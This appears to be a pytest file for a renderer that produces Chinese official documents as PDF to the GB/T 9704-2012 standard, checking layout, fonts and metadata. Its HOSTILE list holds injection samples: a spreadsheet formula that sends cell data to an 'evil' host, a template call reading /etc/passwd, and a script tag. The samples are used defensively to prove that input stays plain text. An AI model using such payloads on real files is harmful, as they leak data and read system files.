"""Official documents as PDF: rendered again and measured against GB/T 9704-2012."""

from __future__ import annotations

import itertools
import os
import re
import shutil
import subprocess
import sys
import xml.etree.ElementTree as ET
from datetime import date
from importlib.util import find_spec
from pathlib import Path
from typing import NamedTuple

import pytest
from PIL import Image
from support import ROOT

from taizhang.documents.fonts import Fonts, chosen, fonts_on
from taizhang.documents.official import (
    Addressee,
    Annex,
    Attachments,
    Block,
    Body,
    Heading,
    Imprint,
    Line,
    Masthead,
    Note,
    Number,
    OfficialDocument,
    Signature,
    Title,
    columns,
)
from taizhang.documents.pdf import Unprintable, as_pdf

MM = 72 / 25.4
DAY = date(2026, 11, 23)
SENTENCE = (
    "各医疗卫生单位要坚持人民至上生命至上把安全生产摆在突出位置全面排查治理重大事故隐患逐项登记逐项整改逐项验收销号"
)
EVERYTHING = (
    Title("关于全系统重大事故隐患\n专项排查整治情况的通报"),
    Number("〔2026〕　号", blank=True),
    Addressee("各医疗卫生单位："),
    Body("现将有关情况通报如下。"),
    Heading("一、总体情况"),
    Heading("（一）排查整治情况", 2),
    Heading("1.自查", 3),
    Body("应报30家。", lead="（二）报送情况。"),
    Line("单位：项"),
    Attachments(("统计表", "清单")),
    Signature("示例旗卫生健康委员会", DAY, seal=False),
    Note("此件公开发布"),
    Annex("附件1", "统计表", landscape=True),
    columns(["序号", "单位"], [["1", "甲"]], [1, 3]),
    Annex("附件2", "清单"),
    Body("无。"),
    Imprint("旗安委会办公室", "旗卫健委办公室", "2026年11月23日"),
)


class Word(NamedTuple):
    """A piece of text on a page, in mm from the upper left corner."""

    page: int
    text: str
    left: float
    top: float
    right: float
    bottom: float


@pytest.fixture(scope="module")
def fonts() -> Fonts:
    found = fonts_on()
    assert found, "the tests need a Chinese font; tests/install-browser.sh installs one"
    return found


def made(fonts: Fonts, *blocks: Block, **more: object) -> bytes:
    return as_pdf(OfficialDocument("试", blocks, dated=DAY, **more), fonts)  # type: ignore[arg-type]


def words(raw: bytes, folder: Path) -> tuple[list[tuple[float, float]], list[Word]]:
    """The sizes of the pages in mm, and every piece of text with its place, as Poppler sees them."""
    file = folder / "measured.pdf"
    file.write_bytes(raw)
    listed = subprocess.run(["pdftotext", "-bbox", str(file), "-"], capture_output=True, check=True, text=True).stdout
    # Poppler writes characters of the text that XML cannot hold as they are.
    root = ET.fromstring(re.sub("[\x00-\x08\x0b\x0c\x0e-\x1f]", "", listed))  # noqa: S314 - from our own file
    tag = "{http://www.w3.org/1999/xhtml}"
    sizes, found = [], []
    for number, page in enumerate(root.iter(f"{tag}page"), 1):
        sizes.append((float(page.get("width", 0)) / MM, float(page.get("height", 0)) / MM))
        for word in page.iter(f"{tag}word"):
            left, top, right, bottom = (float(word.get(edge, 0)) / MM for edge in ("xMin", "yMin", "xMax", "yMax"))
            found.append(Word(number, word.text or "", left, top, right, bottom))
    return sizes, found


def text_of(raw: bytes, folder: Path, *options: str) -> str:
    file = folder / "read.pdf"
    file.write_bytes(raw)
    return subprocess.run(["pdftotext", *options, str(file), "-"], capture_output=True, check=True, text=True).stdout


def one(found: list[Word], text: str) -> Word:
    (word,) = [word for word in found if text in word.text]
    return word


def test_a_full_page_of_text_has_22_lines_of_28_characters(fonts: Fonts, tmp_path: Path) -> None:
    raw = made(fonts, Body(SENTENCE * 20))
    sizes, found = words(raw, tmp_path)
    assert [(round(w), round(h)) for w, h in sizes] == [(210, 297)] * 2
    lines = [word for word in found if word.page == 1 and "—" not in word.text and not word.text.isdigit()]
    assert [len(line.text) for line in lines] == [26, *[28] * 21]  # the first is indented by two characters
    assert all(abs(line.left - 28) < 0.3 for line in lines[1:])
    assert all(abs(line.right - 184) < 0.5 for line in lines)
    assert abs(lines[0].left - 28 - 2 * 156 / 28) < 0.3
    pitches = [b.top - a.top for a, b in itertools.pairwise(lines)]
    assert all(abs(pitch - 28.95 / MM) < 0.02 for pitch in pitches)
    assert lines[0].top > 37 - 0.3
    assert lines[-1].bottom < 297 - 35 + 0.3


def test_real_text_with_stops_and_digits_stays_within_the_type_area(fonts: Fonts, tmp_path: Path) -> None:
    text = "按照要求，各单位应当于每月24日前报送，“零报告”也要报；没有报送的，予以通报（点名）。整改率66.7%。"
    _, found = words(made(fonts, Body(text * 30)), tmp_path)
    # A stop at the end of a line is set half as wide as Poppler takes it to be.
    assert max(word.right for word in found) < 184 + 156 / 28 / 2 + 0.2
    assert min(word.left for word in found) > 27.7


def test_page_numbers_stand_outside_7_mm_below_the_type_area(fonts: Fonts, tmp_path: Path) -> None:
    _, found = words(made(fonts, Body(SENTENCE * 60)), tmp_path)
    dashes = {page: [w for w in found if w.page == page and w.text == "—"] for page in (1, 2)}
    digits = {page: one([w for w in found if w.page == page and w.top > 262], str(page)) for page in (1, 2)}
    middle = (digits[1].top + digits[1].bottom) / 2
    assert abs(middle - (297 - 35 + 7)) < 1.5
    assert abs(dashes[1][-1].right - (210 - 26 - 14 / MM)) < 0.6
    assert abs(dashes[2][0].left - (28 + 14 / MM)) < 0.6


def test_a_sideways_page_keeps_its_number_at_the_left(fonts: Fonts, tmp_path: Path) -> None:
    sizes, found = words(made(fonts, *EVERYTHING), tmp_path)
    assert [(round(w), round(h)) for w, h in sizes] == [(210, 297), (297, 210), (210, 297)]
    number = one([w for w in found if w.page == 2 and w.left < 35], "2")
    assert abs((number.left + number.right) / 2 - 28) < 1.5
    assert 28 < number.top < 60  # an even page: towards the edge that is the upper one here


def test_every_part_stands_where_the_standard_wants_it(fonts: Fonts, tmp_path: Path) -> None:
    _, found = words(made(fonts, *EVERYTHING), tmp_path)
    upright = [word for word in found if word.page == 1]
    title, signed = one(upright, "关于全系统"), one(upright, "示例旗卫生健康委员会")
    dated = one(upright, "2026年11月23日")
    assert abs((title.left + title.right) / 2 - (28 + 156 / 2)) < 0.5
    assert round((title.right - title.left) / len(title.text) * MM) == 22
    assert abs(signed.left + 2 * 156 / 28 - dated.left) < 0.6
    annexed = {word.text: word for word in found if word.text in ("附件1", "附件2", "统计表")}
    assert abs(annexed["附件2"].left - 28) < 0.5
    first, second = one(found, "附件：1.统计表"), one(found, "2.清单")
    assert second.left > first.left
    assert abs(second.right - (first.right - 156 / 28)) < 0.8  # 清单 is one character shorter than 统计表
    printed = [word for word in found if word.page == 3 and "印发" in word.text]
    assert abs(printed[0].bottom - (297 - 35)) < 4


def test_levels_of_headings_have_their_faces(fonts: Fonts) -> None:
    faces = fonts.faces
    assert set(faces) == {"title", "fang", "kai", "hei", "song"}
    assert faces["hei"].families[0] != faces["fang"].families[0]
    assert faces["title"].weight == 700
    assert all(face.families for face in faces.values())


RARE = "堃喆赟珺玥昇𬍤"


def test_rare_characters_of_names_are_printed_and_never_become_boxes(fonts: Fonts, tmp_path: Path) -> None:
    raw = made(fonts, Body(f"{RARE}。"), Title(RARE))
    assert text_of(raw, tmp_path).count(RARE) == 2
    (tmp_path / "rare.pdf").write_bytes(made(fonts, *(Body(char) for char in RARE)))
    subprocess.run(["pdftoppm", "-r", "200", "-gray", "rare.pdf", "rare"], cwd=tmp_path, check=True)
    (picture,) = tmp_path.glob("rare-*.pgm")
    drawn = [_glyph(Image.open(picture), line) for line in range(len(RARE))]
    assert len(set(drawn)) == len(RARE), "boxes would all look the same"


def _glyph(page: Image.Image, line: int) -> bytes:
    """The first character of a line, indented by two, as it was drawn."""
    dot = 200 / 72
    left, top = (79.35 + 2 * 15.793) * dot, (104.9 + 6.475 + line * 28.95) * dot
    glyph = page.crop((round(left), round(top) - 4, round(left + 18 * dot), round(top + 18 * dot)))
    assert glyph.getextrema()[0] < 100
    return glyph.tobytes()


def test_a_character_that_no_font_has_is_refused_by_name(fonts: Fonts) -> None:
    with pytest.raises(Unprintable) as refused:
        made(fonts, Body("某\U0010fffd院"))
    assert "10fffd" in refused.value.character


def test_what_was_replaced_is_printed_on_the_last_page(fonts: Fonts, tmp_path: Path) -> None:
    text = text_of(made(fonts, *EVERYTHING), tmp_path)
    first, *_, last = text.split("\f")[:-1]
    assert fonts.note not in first
    assert fonts.note in last.replace("\n", "") or not fonts.note


def test_a_machine_with_the_fonts_of_the_standard_prints_no_note() -> None:
    there = {"FZXiaoBiaoSong-B05S", "FangSong_GB2312", "KaiTi_GB2312", "SimHei", "SimSun", "Noto Serif CJK SC"}
    faces, note = chosen(there)
    assert note == ""
    assert faces["fang"].families == ("FangSong_GB2312", "Noto Serif CJK SC", "SimSun")
    assert faces["title"].families[0] == "FZXiaoBiaoSong-B05S"
    faces, note = chosen(there - {"FangSong_GB2312"})
    assert faces["fang"].families[0] == "Noto Serif CJK SC"
    assert note == "打印说明：生成本文件的计算机没有仿宋，以Noto Serif CJK SC代替。"
    assert chosen({"DejaVu Sans"}) == ({}, "")


def test_with_one_chinese_font_alone_everything_is_printed_in_it(tmp_path: Path) -> None:
    listed = subprocess.run(
        ["fc-list", ":lang=zh", "family", "file"], capture_output=True, check=True, text=True
    ).stdout
    serif = next((line.split(":")[0] for line in listed.splitlines() if "NotoSerifCJK-Regular" in line), None)
    if serif is None:
        pytest.skip("Noto Serif CJK is not on this machine")
    (tmp_path / "fonts").mkdir()
    shutil.copy(serif, tmp_path / "fonts")
    fonts = fonts_on(tmp_path / "fonts")
    assert fonts
    assert "仿宋" in fonts.note
    assert "小标宋" in fonts.note
    assert RARE in text_of(made(fonts, *EVERYTHING, Body(RARE)), tmp_path)


def test_the_fonts_that_come_as_a_python_package_print_everything(fonts: Fonts, tmp_path: Path) -> None:
    package = find_spec("pylopdf_fonts_zh_cn")
    assert package, "`make test` installs it from requirements/dev.txt"
    assert package.origin
    alone = fonts_on(Path(package.origin).parent)
    assert alone
    assert set(alone.found.families()) <= set(fonts.found.families())
    assert RARE in text_of(made(alone, *EVERYTHING, Body(RARE)), tmp_path)


def test_a_machine_without_chinese_fonts_has_none(tmp_path: Path) -> None:
    assert fonts_on(tmp_path) is None


HOSTILE = [
    '=HYPERLINK("http://evil?"&A1,"点我")',
    "]]>",
    '#link("http://evil.example")[点我]',
    '#read("/etc/passwd") #import "x.typ"',
    "$x^2$ *粗* _斜_ `码` // 注 /* 注 */",
    "\\u{41} <label> @ref ~ --- ...",
    '"); #panic("',
    "<script>alert(1)</script>",
]


@pytest.mark.parametrize("text", HOSTILE)
def test_whatever_text_holds_stays_text(fonts: Fonts, tmp_path: Path, text: str) -> None:
    blocks = (Title(text), Masthead(text, text, text, text), Body(text, lead=text), Heading(text), Line(text))
    raw = made(
        fonts,
        *blocks,
        Attachments((text, text)),
        columns([text], [[text]], [1]),
        Imprint(text, text, text),
        watermark="草稿",
        header=text,
    )
    squeezed = re.sub(r"\s", "", text_of(raw, tmp_path, "-raw"))
    assert squeezed.count(re.sub(r"\s", "", text)) >= 6
    assert b"/URI" not in raw


def test_the_watermark_is_drawn_below_the_text_of_a_draft_alone(fonts: Fonts, tmp_path: Path) -> None:
    assert "草" in text_of(made(fonts, Body("正文。"), watermark="草稿"), tmp_path)
    assert "草" not in text_of(made(fonts, Body("正文。")), tmp_path)


def test_the_file_is_meant_to_be_kept_and_knows_only_the_day_of_the_document(fonts: Fonts) -> None:
    raw = made(fonts, *EVERYTHING)
    assert b"<pdfaid:part>2</pdfaid:part>" in raw
    assert set(re.findall(rb"D:(\d{8})", raw)) == {b"20261123"}
    assert b"/Author" not in raw


PROGRAM = """
import sys
sys.path[:0] = [{root!r}, {tests!r}]
from test_pdf import EVERYTHING, fonts_on, made
sys.stdout.buffer.write(made(fonts_on(), *EVERYTHING, watermark="草稿"))
"""


def test_the_bytes_are_the_same_in_every_time_zone() -> None:
    program = PROGRAM.format(root=str(ROOT), tests=str(ROOT / "tests"))
    runs = {
        subprocess.run(
            [sys.executable, "-c", program], env={**os.environ, "TZ": zone}, capture_output=True, check=True
        ).stdout
        for zone in ("America/New_York", "Asia/Shanghai")
    }
    assert len(runs) == 1
    assert runs.pop().startswith(b"%PDF")
